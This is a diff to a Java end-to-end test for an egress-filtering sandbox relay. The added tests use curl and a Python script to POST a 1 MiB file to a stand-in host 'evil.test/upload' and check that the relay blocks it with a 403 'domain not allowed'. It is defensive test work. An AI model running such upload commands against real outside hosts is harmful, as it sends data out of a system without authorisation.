@@ -217,6 +217,12 @@ class RelayEndToEndTest {
         Result tls = run(List.of("curl", "-sS", "--cacert", fx.tlsCertificate.toString(),
                 "https://allowed.test:" + fx.httpsPort() + "/curl-tls"));
         assertThat(tls.out).as(tls.toString()).isEqualTo("hello over tls /curl-tls");
+        Path body = tmp.resolve("body.bin");
+        Files.write(body, new byte[1 << 20]);
+        Result deniedPost = run(List.of("curl", "-sS", "-w", "\n%{http_code}", "--data-binary", "@" + body,
+                "http://evil.test:" + fx.httpPort() + "/upload"));
+        assertThat(deniedPost.out).as("a refused upload still gets its 403: " + deniedPost)
+                .contains("domain not allowed").endsWith("403");
         Result literal = run(List.of("curl", "-sS", "-w", "\n%{http_code}", "http://127.0.0.1:" + fx.httpPort() + "/"));
         assertThat(literal.out).as(literal.toString()).contains("IP address").endsWith("403");
     }
@@ -226,17 +232,23 @@ class RelayEndToEndTest {
         assumeTrue(onPath("python3"), "python3 is not installed");
         String script = "import sys, urllib.request, urllib.error\n"
                 + "for url in sys.argv[1:]:\n"
+                + "    data = None\n"
+                + "    if url.startswith('POST:'):\n"
+                + "        url, data = url[5:], bytes(1 << 20)\n"
                 + "    try:\n"
-                + "        print(urllib.request.urlopen(url, timeout=10).read().decode())\n"
+                + "        print(urllib.request.urlopen(url, data=data, timeout=10).read().decode())\n"
                 + "    except urllib.error.HTTPError as e:\n"
                 + "        print(e.code, e.read().decode().strip())\n";
         Result r = run(List.of("python3", "-c", script, "http://allowed.test:" + fx.httpPort() + "/py",
-                "http://evil.test:" + fx.httpPort() + "/py", "http://[::1]:" + fx.httpPort() + "/py"));
+                "http://evil.test:" + fx.httpPort() + "/py", "http://[::1]:" + fx.httpPort() + "/py",
+                "POST:http://evil.test:" + fx.httpPort() + "/upload"));
         assertThat(r.exit).as(r.toString()).isZero();
         assertThat(r.out.split("\n")).containsExactly("hello from allowed.test /py body=0",
                 "403 sandbox4j egress: domain not allowed: evil.test:" + fx.httpPort() + " is not in the policy ("
                         + fx.policy() + ")",
-                "403 sandbox4j egress: domain not allowed: IP address 0:0:0:0:0:0:0:1 (the policy lists domain names)");
+                "403 sandbox4j egress: domain not allowed: IP address 0:0:0:0:0:0:0:1 (the policy lists domain names)",
+                "403 sandbox4j egress: domain not allowed: evil.test:" + fx.httpPort() + " is not in the policy ("
+                        + fx.policy() + ")");
     }
 
     private static final class Result {
